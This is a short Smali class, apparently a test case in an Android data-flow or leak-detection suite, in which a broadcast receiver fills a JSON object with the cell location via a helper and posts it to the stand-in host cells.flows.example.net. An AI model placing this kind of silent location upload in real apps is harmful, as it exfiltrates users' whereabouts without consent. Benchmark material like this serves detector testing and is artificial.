.class public Lorg/phonehome/test/flows/JsonCase;
.super Landroid/content/BroadcastReceiver;
.source "JsonCase.java"

# A helper puts the cell location into the caller's JSONObject, which is posted.

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/content/BroadcastReceiver;-><init>()V
    return-void
.end method

.method public onReceive(Landroid/content/Context;Landroid/content/Intent;)V
    .registers 6
    new-instance v0, Lorg/json/JSONObject;
    invoke-direct {v0}, Lorg/json/JSONObject;-><init>()V
    invoke-static {v0, p1}, Lorg/phonehome/test/flows/Fill;->fill(Lorg/json/JSONObject;Landroid/content/Context;)V
    invoke-virtual {v0}, Lorg/json/JSONObject;->toString()Ljava/lang/String;
    move-result-object v0
    invoke-virtual {v0}, Ljava/lang/String;->getBytes()[B
    move-result-object v0
    :try_start
    new-instance v1, Ljava/net/URL;
    const-string v2, "http://cells.flows.example.net/up"
    invoke-direct {v1, v2}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
    invoke-virtual {v1}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
    move-result-object v1
    check-cast v1, Ljava/net/HttpURLConnection;
    invoke-virtual {v1}, Ljava/net/HttpURLConnection;->getOutputStream()Ljava/io/OutputStream;
    move-result-object v1
    invoke-virtual {v1, v0}, Ljava/io/OutputStream;->write([B)V
    :try_end
    .catch Ljava/io/IOException; {:try_start .. :try_end} :failed
    :failed
    return-void
.end method
